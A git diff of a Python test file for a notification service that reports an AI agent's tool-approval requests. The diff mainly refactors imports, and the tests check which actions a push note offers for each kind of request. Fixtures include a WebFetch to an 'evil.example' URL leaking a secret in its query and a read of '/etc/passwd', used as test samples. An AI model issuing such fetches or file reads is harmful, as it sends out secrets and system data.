@@ -16,9 +16,19 @@ import pytest
 from tests.aio import run
 from tests.server.site import Site, site
 from tests.tooling.push_service import Browser, Pushed, PushService
-from trunkline.dialects import context
 from trunkline.dialects.calls import read_call, reading_meta
 from trunkline.dialects.calls.names import usual_name
+from trunkline.dialects.context.envelope import encode_event
+from trunkline.dialects.context.events import (
+    ApprovalRequestedEvent,
+    ApprovalResolvedEvent,
+    Event,
+    MessageStartEvent,
+    SessionStatusChangedEvent,
+    UserQuestionEvent,
+)
+from trunkline.dialects.context.types import to_raw
+from trunkline.dialects.context.unions import CommandPreview, DescriptionPreview, DiffPreview
 from trunkline.errors import Invalid, StorageError
 from trunkline.hub import Decision, Session
 from trunkline.journal.base import Entry
@@ -112,29 +122,29 @@ def test_a_name_that_leads_into_a_private_network_gets_nothing(tmp_path: Path) -
 # What is told
 
 
-def entry(event: context.Event) -> Entry:
-    return Entry(1, 0, context.encode_event(1, "s", 1_000_000, event))
+def entry(event: Event) -> Entry:
+    return Entry(1, 0, encode_event(1, "s", 1_000_000, event))
 
 
 FOLDER = "/home/ada/project"
 
 
-def approval(**more: Any) -> context.ApprovalRequestedEvent:
+def approval(**more: Any) -> ApprovalRequestedEvent:
     fields = {"request_id": "r1", "tool_call_id": "c", "tool_name": "Bash", "tool_input": {}, "risk_level": "high",
               "description": "Run: " + "x" * 500, "expires_at": "2026-01-01T00:10:00.000Z", **more}
     reading = read_call(usual_name(fields["tool_name"], None), None, fields["tool_input"])
     fields["meta"] = {"reading": reading_meta(reading)}
-    fields["tool_input"] = context.to_raw(fields["tool_input"])
-    return context.ApprovalRequestedEvent(**fields)
+    fields["tool_input"] = to_raw(fields["tool_input"])
+    return ApprovalRequestedEvent(**fields)
 
 
-def command(line: str, cwd: str = FOLDER, risk: str = "low", **more: Any) -> context.ApprovalRequestedEvent:
+def command(line: str, cwd: str = FOLDER, risk: str = "low", **more: Any) -> ApprovalRequestedEvent:
     """An ask to run something."""
     return approval(risk_level=risk, description=f"Run: {line[:200]}", tool_input={"command": line, **more},
-                    preview=context.CommandPreview(command=line, working_dir=cwd))
+                    preview=CommandPreview(command=line, working_dir=cwd))
 
 
-def told(event: context.Event, title: str = "T", scope: Any = "approve") -> dict[str, Any]:
+def told(event: Event, title: str = "T", scope: Any = "approve") -> dict[str, Any]:
     """The push of an event in a session in FOLDER."""
     note = note_of("s", entry(event))
     assert note is not None
@@ -161,20 +171,20 @@ def test_approving_is_offered_only_for_a_command_that_is_not_risky_and_whole(ris
 
 @pytest.mark.parametrize(("event", "body"), [
     (approval(risk_level="low", tool_name="WebFetch", description="Fetch the docs", tool_input={"url": "https://evil.example/?q=secret"},
-              preview=context.DescriptionPreview(text="Fetch the docs")), "Use WebFetch: Fetch the docs"),
+              preview=DescriptionPreview(text="Fetch the docs")), "Use WebFetch: Fetch the docs"),
     (approval(risk_level="medium", tool_name="Edit", description="Edit src/a.py", tool_input={"path": "src/a.py"},
-              preview=context.DiffPreview(path="src/a.py", diff="-a\n+b")), "Change a file: src/a.py"),
+              preview=DiffPreview(path="src/a.py", diff="-a\n+b")), "Change a file: src/a.py"),
     (approval(risk_level="medium", tool_name="mcp__mail__send", description="mcp__mail__send",
-              tool_input={"to": "x", "body": "y"}, preview=context.DescriptionPreview(text="mcp__mail__send")),
+              tool_input={"to": "x", "body": "y"}, preview=DescriptionPreview(text="mcp__mail__send")),
      "Use mcp__mail__send"),
     (approval(risk_level="low", tool_name="Read", description="Run: ls", tool_input={"value": "ls"}), "Use Read: Run: ls"),
     (approval(risk_level="low", tool_name="mcp__box__run", tool_input={"command": "ls"},
-              preview=context.CommandPreview(command="ls", working_dir=FOLDER)), "mcp__box__run, which runs: ls"),
+              preview=CommandPreview(command="ls", working_dir=FOLDER)), "mcp__box__run, which runs: ls"),
     (command("ls", file_path="/etc/passwd"), "Bash, which runs: ls"),
-    (approval(risk_level="low", description="Run: ls", preview=context.CommandPreview(command="ls", working_dir=FOLDER)),
+    (approval(risk_level="low", description="Run: ls", preview=CommandPreview(command="ls", working_dir=FOLDER)),
      "Bash, which runs: ls"),
 ])
-def test_what_a_note_does_not_show_wholly_is_only_denied_or_opened_and_its_kind_is_told(event: context.Event, body: str) -> None:
+def test_what_a_note_does_not_show_wholly_is_only_denied_or_opened_and_its_kind_is_told(event: Event, body: str) -> None:
     said = told(event)
     assert (said["body"], said["actions"]) == (body, ["deny"])
 
@@ -198,7 +208,7 @@ def test_how_long_and_how_urgently_it_is_told() -> None:
     assert note is not None and note.urgency == "high"
     until = note.until or 0
     assert (note.ttl_s(until - 300), note.ttl_s(until + 1), note.ttl_s(until - 10**6)) == (300, -1, ASKED_MOST_S)
-    question = note_of("s", entry(context.UserQuestionEvent(question_id="q1", question="Why?")))
+    question = note_of("s", entry(UserQuestionEvent(question_id="q1", question="Why?")))
     assert question is not None and (question.ttl_s(0), question.urgency) == (ASKED_MOST_S, "high")
     failed = Note(kind="failed", session_id="s")
     assert (failed.ttl_s(0), failed.urgency) == (KEPT_S, "normal")
@@ -206,7 +216,7 @@ def test_how_long_and_how_urgently_it_is_told() -> None:
 
 def test_all_about_one_ask_has_one_topic_and_other_asks_have_others() -> None:
     asked = note_of("s", entry(approval()))
-    answer = context.ApprovalResolvedEvent(request_id="r1", tool_call_id="c", approved=True, resolved_by="user")
+    answer = ApprovalResolvedEvent(request_id="r1", tool_call_id="c", approved=True, resolved_by="user")
     resolved = note_of("s", entry(answer))
     assert asked is not None and resolved is not None and resolved.resolves
     assert asked.topic == resolved.topic and asked.tag == resolved.tag
@@ -217,12 +227,12 @@ def test_all_about_one_ask_has_one_topic_and_other_asks_have_others() -> None:
 
 def test_a_turn_that_was_cancelled_and_other_changes_are_nobodys_concern() -> None:
     def changed(**meta: Any) -> Note | None:
-        return note_of("s", entry(context.SessionStatusChangedEvent(from_="running", to="idle", meta=meta)))
+        return note_of("s", entry(SessionStatusChangedEvent(from_="running", to="idle", meta=meta)))
 
     assert changed(turnId="t", stopReason="end_turn") == Note(kind="finished", session_id="s")
     assert changed(turnId="t", stopReason="cancelled") is None
     assert changed() is None
-    assert note_of("s", entry(context.MessageStartEvent(message_id="m", role="assistant"))) is None
+    assert note_of("s", entry(MessageStartEvent(message_id="m", role="assistant"))) is None
 
 
 # To the push service
